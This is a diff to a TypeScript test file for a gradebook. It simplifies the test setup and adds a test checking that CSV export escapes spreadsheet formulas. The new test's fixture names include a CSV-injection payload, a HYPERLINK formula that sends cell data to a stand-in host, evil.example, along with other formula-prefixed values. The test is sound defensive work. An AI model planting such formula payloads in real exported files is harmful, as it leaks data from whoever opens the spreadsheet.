@@ -1,12 +1,12 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { sql } from 'drizzle-orm';
+import { eq, sql } from 'drizzle-orm';
 import { createTestDb } from '../../../../tests/support/db';
-import { makeContentDir, type ContentDir } from '../../../../tests/support/content';
+import type { ContentDir } from '../../../../tests/support/content';
 import { makeUser } from '../../../../tests/support/factories';
-import { writeExercise } from '../../../../tests/support/exercise-content';
+import { syncExercises } from '../../../../tests/support/exercise-content';
 import { makeCohort, makeSubmission } from '../../../../tests/support/grading';
 import type { Db } from '../db';
-import { feedback, feedbackCriteria, labAttempts, submissions } from '../db/schema';
+import { feedback, feedbackCriteria, labAttempts, submissions, users } from '../db/schema';
 import { labKind } from '../content/kinds';
 import { labColumns } from '../labs/gradebook';
 import { syncContent } from '../content/sync';
@@ -27,9 +27,7 @@ let cleanupDb: () => void;
 let content: ContentDir;
 beforeEach(() => {
 	({ db, cleanup: cleanupDb } = createTestDb());
-	content = makeContentDir();
-	writeExercise(content.root, 'demo');
-	syncContent(db, content.root);
+	content = syncExercises(db, { demo: {} });
 });
 afterEach(() => {
 	content.cleanup();
@@ -151,6 +149,49 @@ describe('the gradebook', () => {
 		expect(scoreDistribution(db, instructor, cohort.id, column)?.buckets).toEqual([
 			0, 0, 1, 0, 0, 0, 0, 0, 1, 0
 		]);
+	});
+
+	it('neutralises spreadsheet formulas in the CSV (OWASP CSV injection)', async () => {
+		const instructor = await makeUser(db, { role: 'instructor' });
+		const names = [
+			'=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+			'+1+1',
+			'-2+3',
+			'@SUM(A1:A9)',
+			'\tTab',
+			'\rReturn',
+			'Plain = name'
+		];
+		const learners = [];
+		for (const displayName of names) {
+			const u = await makeUser(db);
+			// Stored as is (sign-up trims names, but nothing else guarantees it).
+			db.update(users).set({ displayName }).where(eq(users.id, u.id)).run();
+			learners.push(u);
+		}
+		const mailer = await makeUser(db, { displayName: 'Mail', email: '=cmd@example.test' });
+		const cohort = makeCohort(db, instructor, [...learners.map((l) => l.id), mailer.id]);
+		const csv = gradebookCsv(db, instructor, cohort.id, 'en', {
+			name: '=Name',
+			email: 'Email',
+			max: (t) => t
+		})!;
+		const cells = csv
+			.slice(1)
+			.split('\r\n')
+			.flatMap((line) => line.split(','));
+		// No cell starts (after an optional opening quote) with a formula character.
+		expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
+		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1`);
+		expect(csv).toContain("'+1+1,");
+		expect(csv).toContain("'-2+3,");
+		expect(csv).toContain("'@SUM(A1:A9),");
+		expect(csv).toContain("'\tTab,");
+		expect(csv).toContain(`"'\rReturn",`);
+		expect(csv).toContain("'=cmd@example.test,");
+		expect(csv.startsWith("\ufeff'=Name,Email,")).toBe(true);
+		// Text that only contains a formula character further in is left as it is.
+		expect(csv).toContain('Plain = name,');
 	});
 
 	it('averages released levels per criterion and compares them with the AI’s', async () => {
